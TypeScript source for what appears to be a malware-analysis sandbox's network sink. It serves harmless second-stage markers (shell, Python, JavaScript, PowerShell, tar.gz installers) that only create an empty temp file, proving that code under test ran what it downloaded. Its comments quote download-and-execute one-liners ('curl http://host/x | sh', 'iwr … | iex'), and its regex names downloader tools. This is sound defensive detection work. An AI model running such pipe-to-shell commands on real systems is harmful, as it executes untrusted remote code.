// What the network sink answers an HTTP request with. A download gets a harmless second-stage marker of the
// kind the request asks for (a shell or Python script, a JavaScript or PowerShell file, a .tar.gz holding an
// install script, an executable script), so a download-then-run chain runs its second step offline. The
// marker only creates an empty file named SECOND_STAGE_MARKER-<kind>-<id> in $TMPDIR (or /tmp): it reads
// nothing, sends nothing and starts nothing, so a run that shows it proves one thing only, that the code
// executed what it downloaded. Anything else (an API call, an upload) gets 200 with plausible JSON.
import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import type { HttpHead } from './sink-protocols.js';

/**
 * Prefix of the file each marker creates; detonation reads it from the run's /tmp diff. Free of the tool's name,
 * as a temp file's is: a second stage that looks itself over must not learn where it runs. Fixed, since the sink
 * that serves the marker is a process of its own.
 */
export const SECOND_STAGE_MARKER = 'tmp.q7Rz3';

type Kind = 'script' | 'javascript' | 'powershell' | 'archive' | 'json';

const EXTENSION_KIND: [RegExp, Kind][] = [
  [/\.(sh|bash|zsh|command|py|pyw|pl|rb|bin|run|elf|appimage|exe|out)$/, 'script'],
  [/\.(js|mjs|cjs)$/, 'javascript'],
  [/\.(ps1|psm1)$/, 'powershell'],
  [/\.(tar\.gz|tgz|tar)$/, 'archive'],
];
// Command-line downloaders fetch things to run or save; libraries fetch data unless the path says otherwise.
const DOWNLOADER_AGENT =
  /^user-agent:[ \t]*(curl|wget|powershell|mozilla\/5\.0 \(windows nt[^)]*\) windowspowershell)/im;

function kindOf(head: HttpHead): Kind {
  if (head.method !== 'GET') return 'json';
  const path = (head.path.split(/[?#]/)[0] ?? '').toLowerCase();
  const last = path.split('/').pop() ?? '';
  for (const [re, kind] of EXTENSION_KIND) if (re.test(last)) return kind;
  if (/\.[a-z0-9]{1,5}$/.test(last)) return 'json';
  if (/^accept:[ \t]*application\/json/im.test(head.headers)) return 'json';
  // `curl http://host/x | sh`, `iwr http://host/x | iex`: no extension, fetched by a downloader.
  if (DOWNLOADER_AGENT.test(head.headers) || !/^user-agent:/im.test(head.headers)) return 'script';
  return 'json';
}

const markerName = (kind: string) => `${SECOND_STAGE_MARKER}-${kind}-${randomBytes(4).toString('hex')}`;

// One text that is a POSIX shell script and a Python program (the shell stops at `return`/`exit` before
// the Python part; Python reads the shell part as a string), so it runs whichever interpreter it is fed to,
// and as an executable file through its #! line.
function scriptMarker(): string {
  const sh = markerName('sh');
  const py = markerName('py');
  return [
    '#!/bin/sh',
    '"""":',
    `: > "\${TMPDIR:-/tmp}/${sh}"`,
    'return 0 2>/dev/null || exit 0',
    '"""',
    'import os',
    `open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "${py}"), "w").close()`,
    '',
  ].join('\n');
}

function javascriptMarker(): string {
  return [
    "const fs = typeof require === 'function' ? require('node:fs') : process.getBuiltinModule('node:fs');",
    `fs.writeFileSync((process.env.TMPDIR || '/tmp') + '/${markerName('js')}', '');`,
    '',
  ].join('\n');
}

function powershellMarker(): string {
  return [
    `New-Item -ItemType File -Force -Path (Join-Path ([IO.Path]::GetTempPath()) '${markerName('ps1')}') | Out-Null`,
    '',
  ].join('\n');
}

/** A ustar header for one regular file. */
function tarHeader(name: string, size: number, mode: number): Buffer {
  const h = Buffer.alloc(512);
  const field = (value: string, at: number, len: number) => h.write(value.slice(0, len), at, len, 'ascii');
  const octal = (n: number, len: number) => `${n.toString(8).padStart(len - 1, '0')}\0`;
  field(name, 0, 100);
  field(octal(mode, 8), 100, 8);
  field(octal(0, 8), 108, 8);
  field(octal(0, 8), 116, 8);
  field(octal(size, 12), 124, 12);
  field(octal(Math.floor(Date.now() / 1000), 12), 136, 12);
  h.fill(' ', 148, 156);
  field('0', 156, 1);
  field('ustar\0', 257, 6);
  field('00', 263, 2);
  let sum = 0;
  for (const b of h) sum += b;
  field(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 8);
  return h;
}

/**
 * A .tar.gz holding the script marker under the names installers run (`install.sh`, `setup.py`, `configure`, a
 * Makefile that runs it), at the top and in the folder a source tarball unpacks to (`tool-1.2.tar.gz` holds
 * `tool-1.2/`), so `tar xzf tool-1.2.tar.gz && cd tool-1.2 && ./configure && make` reaches its second step.
 */
function archiveMarker(stem: string): Buffer {
  const parts: Buffer[] = [];
  const add = (name: string, text: string) => {
    const body = Buffer.from(text);
    parts.push(tarHeader(name, body.length, 0o755), body, Buffer.alloc((512 - (body.length % 512)) % 512));
  };
  const makefile = 'all install:\n\tsh ./install.sh\n';
  for (const dir of stem ? ['', `${stem}/`] : ['']) {
    for (const name of ['install.sh', 'setup.py', 'configure']) add(`${dir}${name}`, scriptMarker());
    add(`${dir}Makefile`, makefile);
  }
  parts.push(Buffer.alloc(1024));
  return gzipSync(Buffer.concat(parts));
}

/** The folder a downloaded archive is expected to unpack to: its file name without the archive extension. */
function archiveStem(head: HttpHead): string {
  const last = (head.path.split(/[?#]/)[0] ?? '').split('/').pop() ?? '';
  const stem = last.replace(/\.(tar\.gz|tgz|tar)$/i, '');
  return /^[\w.+-]{1,80}$/.test(stem) && !stem.startsWith('.') ? stem : '';
}

const BODIES: Record<Kind, (head: HttpHead) => { type: string; body: Buffer | string }> = {
  script: () => ({ type: 'text/plain; charset=utf-8', body: scriptMarker() }),
  javascript: () => ({ type: 'application/javascript', body: javascriptMarker() }),
  powershell: () => ({ type: 'text/plain; charset=utf-8', body: powershellMarker() }),
  archive: (head) => ({ type: 'application/gzip', body: archiveMarker(archiveStem(head)) }),
  json: () => ({ type: 'application/json', body: GENERIC_JSON }),
};

/** What an API call gets when the sandbox was given no answer of its own. */
export const GENERIC_JSON = '{"ok": true, "status": "success", "data": {}}';

/**
 * The whole HTTP response to a request the sink logged. `json`: the answer to an API call from this sandbox, when
 * it was given one (the fields its skill's scripts read, detonate/data-shape.ts).
 */
export function httpResponse(head: HttpHead, json?: Buffer): Buffer {
  const kind = kindOf(head);
  const { type, body } =
    kind === 'json' && json ? { type: 'application/json', body: json } : BODIES[kind](head);
  const bytes = Buffer.isBuffer(body) ? body : Buffer.from(body);
  const status = `HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nContent-Length: ${bytes.length}\r\nConnection: close\r\n\r\n`;
  return Buffer.concat([Buffer.from(status), head.method === 'HEAD' ? Buffer.alloc(0) : bytes]);
}
